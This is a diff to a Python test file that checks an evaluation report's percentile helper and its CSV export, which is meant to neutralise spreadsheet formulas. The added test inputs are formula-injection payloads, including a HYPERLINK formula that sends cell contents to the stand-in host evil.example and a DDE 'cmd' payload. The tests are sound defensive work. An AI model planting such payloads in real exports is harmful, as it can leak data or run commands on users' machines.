@@ -1,10 +1,19 @@
-"""The percentile the evaluation report uses: nearest rank, always one of the values."""
+"""The evaluation report's pure parts: the percentile (nearest rank, always one of the
+values) and the CSV export, whose cells no spreadsheet runs as formulas."""
 
 from __future__ import annotations
 
+import csv
+import io
+from datetime import UTC, datetime
+
 import pytest
 
-from broker.reports.service import nearest_rank
+from broker.reports.schemas import CSV_COLUMNS, CdoEvaluationReport, CdoEvaluationRow
+from broker.reports.service import nearest_rank, to_csv
+
+JAN = datetime(2027, 1, 1, tzinfo=UTC)
+COUNTS = [name for name, field in CdoEvaluationRow.model_fields.items() if field.annotation is int]
 
 
 def test_nearest_rank_picks_an_observed_value() -> None:
@@ -30,3 +39,41 @@ def test_nearest_rank_of_one_and_of_none() -> None:
 def test_nearest_rank_refuses_a_percent_outside_0_to_100(percent: float) -> None:
     with pytest.raises(ValueError, match="percent"):
         nearest_rank([1, 2], percent)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+    ],
+)
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(name: str) -> None:
+    row = CdoEvaluationRow.model_validate(
+        {
+            "organisation_id": "gz-x",
+            "organisation_name": name,
+            "level": "city",
+            "appointment_id": "apt_1",
+            "person_name": name,
+            "title": "副局长",
+            **dict.fromkeys(COUNTS, 0),
+            "decision_seconds_median": None,
+            "decision_seconds_p90": None,
+        }
+    )
+    report = CdoEvaluationReport.model_validate(
+        {"from": JAN, "to": JAN, "level": None, "group_by": "cdo", "rows": [row]}
+    )
+    [_, line] = list(csv.reader(io.StringIO(to_csv(report).removeprefix("\ufeff"))))
+    cells = dict(zip(CSV_COLUMNS, line, strict=True))
+    assert cells["organisation_name"] == cells["person_name"] == "'" + name
+    assert (cells["title"], cells["decided"], cells["decision_seconds_median"]) == (
+        "副局长",
+        "0",
+        "",
+    )
